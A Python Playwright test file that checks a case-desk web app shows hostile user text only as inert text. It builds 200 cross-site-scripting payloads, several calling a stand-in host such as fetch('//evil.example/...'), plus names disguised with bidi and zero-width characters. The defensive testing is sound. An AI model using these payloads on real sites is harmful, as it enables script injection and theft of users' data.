"""What strangers write is text on every page: never run, never fetched, never hidden (D1)."""

from __future__ import annotations

import json
import re
from dataclasses import dataclass
from itertools import product
from typing import Any

import pytest
from playwright.sync_api import expect

from tests.browser.desks import PATIENCE, Person, from_now, says
from tests.journey.running import RunningDesk, eventually

pytestmark = pytest.mark.browser
expect.set_options(timeout=PATIENCE)

#: What would run, asks somebody else for something, or changes the page; `{n}` tells them apart.
RUNS = (
    "alert({n})",
    "fetch('//evil.example/{n}')",
    "top.location='//evil.example/{n}'",
    "document.body.innerHTML='<h1>{n}</h1>'",
)
WAYS_IN = (
    "<script>{run}</script>",
    "<ScRiPt/x>{run}</sCrIpT >",
    "<script src=//evil.example/x.js></script>{run}",
    '"><img src=x onerror="{run}">',
    "'><svg/onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<img src=//evil.example/pixel.gif>{run}",
    '<iframe srcdoc="<script>{run}</script>"></iframe>',
    '<object data="data:text/html,<script>{run}</script>"></object>',
    "<link rel=stylesheet href=//evil.example/x.css>{run}",
    "<style>@import '//evil.example/x.css';</style>{run}",
    "<body onload={run}>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    '<a href="javascript:{run}">x</a>',
    "javascript:{run}",
    "data:text/html,<script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</title><script>{run}</script>",
    "</script><script>{run}</script>",
    "--><script>{run}</script><!--",
    "]]><script>{run}</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<template><script>{run}</script></template>",
    "<div hx-get=//evil.example hx-trigger=load>{run}</div>",
    '<div hx-on:load="{run}" hx-trigger="load">',
    "<div data-do=copy data-copy=body autofocus>{run}</div>",
    "<span hx-swap-oob='true' id=case>{run}</span>",
    "<form id=composer action=//evil.example><input name=x>{run}",
    "<base href=//evil.example/>{run}",
    '<meta http-equiv=refresh content="0;url=//evil.example/">{run}',
    "{{% load i18n %}}{{{{ request.user }}}}{run}",
    "{{{{7*7}}}}${{7*7}}#{{7*7}}{run}",
    "%(name)s %s {{0}} {{who}}{run}",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;img src=x onerror={run}&#62;",
    "\u2028{run}//\u2029",
    "'-{run}-'",
    '";{run};//',
    "`${{{run}}}`",
    "\ufeff<script>{run}</script>",
    "＜script＞{run}＜/script＞",
    "<x style='position:fixed;inset:0;background:url(//evil.example/i)'>{run}",
    "<xmp><plaintext>{run}",
    "<marquee onstart={run}>",
    "<video><source onerror={run}>",
    "<a href='//evil.example' ping='//evil.example/ping'>{run}</a>",
    "<isindex type=image src=1 onerror={run}>",
)
PAYLOADS = [
    way.format(run=run.format(n=7000 + number)) for number, (way, run) in enumerate(product(WAYS_IN, RUNS))
]
#: Reading direction turned, joined and filled with nothing: what a name may hide.
DISGUISES = {
    "tel\u202evoria": "tel[U+202E]voria",
    "telvoria\u200b": "telvoria[U+200B]",
    "tel\u2066vo\u2069ria": "tel[U+2066]vo[U+2069]ria",
    "\u200etelvoria": "[U+200E]telvoria",
    "tel\u00advoria": "tel[U+00AD]voria",
}


@dataclass(frozen=True)
class Hostile:
    desk: RunningDesk
    cases: tuple[int, ...]
    """Four payloads each: name, title, text, address; then one for each disguised name."""


@pytest.fixture(scope="module")
def hostile(town, tmp_path_factory) -> Hostile:
    """Every payload as the name, title, text and address of posts; and as what colleagues write."""
    posts = tmp_path_factory.mktemp("hostile") / "posts.jsonl"
    rows = []
    for number, (name, title, text, address) in enumerate(
        zip(PAYLOADS[::4], PAYLOADS[1::4], PAYLOADS[2::4], PAYLOADS[3::4], strict=True)
    ):
        rows.append(
            {
                "id": f"h-{number}",
                "author": f"villain{number}",
                "author_name": name,
                "title": title,
                "text": f"Telvoria is broken {text}",
                "url": address,
            }
        )
    rows += [
        {
            "id": f"d-{number}",
            "author": f"mask{number}",
            "author_name": name,
            "text": "Telvoria is broken, again",
        }
        for number, name in enumerate(DISGUISES)
    ]
    posts.write_text("".join(json.dumps(row) + "\n" for row in rows))
    town.run("import", str(posts), "--network", PAYLOADS[0])

    def found() -> tuple[int, ...]:
        by_author = {
            row["author_handle"].lstrip("@"): row["id"]
            for word in ("villain", "mask")
            for row in town.get("/cases", view="all", search=word, limit=100)["items"]
        }
        return tuple(by_author[row["author"]] for row in rows if row["author"] in by_author)

    cases = eventually(lambda: len(found()) == len(rows) and found())
    for number, case_id in enumerate(cases[:50:10]):
        payload = PAYLOADS[number * 40]
        town.post(f"/cases/{case_id}/note", {"text": payload})
        town.post(f"/cases/{case_id}/correct", {"field": "topic", "value": payload[:60]})
        town.post(f"/cases/{case_id}/promises", {"text": payload, "due_at": from_now(hours=3)})
    town.post("/terms", {"text": PAYLOADS[3][:60], "kind": "phrase"})
    return Hostile(town, cases)


def nothing_ran(person: Person) -> None:
    person.noticed.assert_nothing()
    made = person.page.locator(
        "iframe, object, embed, base, style, script:not([src^='/static/']), [onerror], [onload], [hx-on\\:load], "
        "a[href^='javascript' i], a[href^='data' i], img, math, video, marquee, meta[http-equiv]"
    )
    assert made.evaluate_all("all => all.map((one) => one.outerHTML.slice(0, 200))") == []


def as_shown(payload: str) -> str:
    """As the desk shows it: hidden characters by their codes, and runs of spaces as one."""
    coded = re.sub(
        "[\u2028\u2029\ufeff\u202e\u200b\u00ad]", lambda found: f"U+{ord(found[0]):04X}", payload.strip()
    )
    return re.sub(r"\s+", " ", coded).strip()


def text_of(where: Any) -> str:
    return re.sub(r"\s+", " ", " ".join(where.all_text_contents()))


def test_there_are_two_hundred_of_them():
    assert len(set(PAYLOADS)) == 200


def test_hostile_words_are_text_in_the_queue(hostile, ada):
    ada.page.goto("/?view=all&q=villain&n=300")
    expect(ada.page.locator(".rows .row")).to_have_count(50)
    nothing_ran(ada)
    shown = text_of(ada.page.locator(".rows"))
    lost = [each for each in PAYLOADS[::4] if as_shown(each) not in shown]
    assert lost == []
    ada.page.keyboard.press("Control+k")
    ada.page.locator("#palette input").fill("villain")
    expect(ada.page.locator("#palette li.found").first).to_be_visible()
    nothing_ran(ada)


def test_hostile_words_are_text_in_each_case(hostile, ada):
    lost = []
    for number, case_id in enumerate(hostile.cases[:50]):
        ada.page.goto(f"/cases/{case_id}")
        ada.page.locator("#case-title").wait_for()
        nothing_ran(ada)
        name, title, text, address = PAYLOADS[number * 4 : number * 4 + 4]
        case = text_of(ada.page.locator("#case-thread, #case-side, #case-head"))
        lost += [each for each in (name, text) if as_shown(each) not in case]
        lost += [title] if as_shown(title)[:60] not in case else []
        assert ada.page.locator(f'a[href="{json.dumps(address)[1:-1]}"]').count() == 0
    assert lost == []


def test_hostile_words_are_text_on_all_other_pages(hostile, ada):
    shown = hostile.desk.get(f"/cases/{hostile.cases[0]}")
    for way in ("/plan", "/hand", "/sources", "/people", f"/evidence/{shown['evidence'][0]['id']}"):
        ada.page.goto(way)
        ada.page.locator("h1").first.wait_for()
        ada.page.locator("main details").evaluate_all("all => all.forEach((one) => { one.open = true; })")
        nothing_ran(ada)
    expect(ada.page.locator("pre.raw")).to_contain_text("villain0")
    ada.page.goto("/hand")
    assert as_shown(PAYLOADS[0]) in text_of(ada.page.locator("main"))


def test_hostile_words_stay_text_when_they_come_live_and_in_drafts(hostile, ada):
    """What the stream brings is put into the page by script: the same promise."""
    case_id = hostile.cases[0]
    ada.open_case(case_id)
    for payload in PAYLOADS[5::50]:
        hostile.desk.post(f"/cases/{case_id}/note", {"text": payload})
        expect(ada.page.locator("#case-thread .note").last).to_contain_text(as_shown(payload)[:40])
        ada.write(payload)
        nothing_ran(ada)
    with ada.page.expect_response(
        lambda answer: answer.url.endswith("/draft") and says(answer.request, payload + "!")
    ):
        ada.write(payload + "!")
    ada.page.reload()
    draft = ada.page.locator('#composer textarea[data-mode="reply"]')
    expect(draft).to_have_value(re.compile(re.escape(payload.strip())))
    nothing_ran(ada)


def test_what_a_name_hides_is_seen(hostile, ada):
    for case_id, told in zip(hostile.cases[50:], DISGUISES.values(), strict=True):
        ada.page.goto(f"/cases/{case_id}")
        for place in (
            f'.rows .row[data-case="{case_id}"] .who',
            "#case-side .person strong",
            ".bubble-top strong",
        ):
            name = ada.page.locator(place).first
            if name.count() == 0 and place.startswith(".rows"):
                continue
            codes = name.locator(".hidden-char").all_text_contents()
            assert codes == re.findall(r"\[(U\+\w+)\]", told), place
            # The direction is turned within the name at most, never for what follows it.
            assert name.locator("bdi").count() == 1 or name.evaluate("(one) => one.tagName") == "BDI"


def test_a_disguised_name_is_seen_in_the_queue(hostile, ada):
    ada.page.goto("/?view=all&q=mask")
    expect(ada.page.locator(".rows .row")).to_have_count(len(DISGUISES))
    assert len(ada.page.locator(".rows .who .hidden-char").all()) == sum(
        told.count("[") for told in DISGUISES.values()
    )
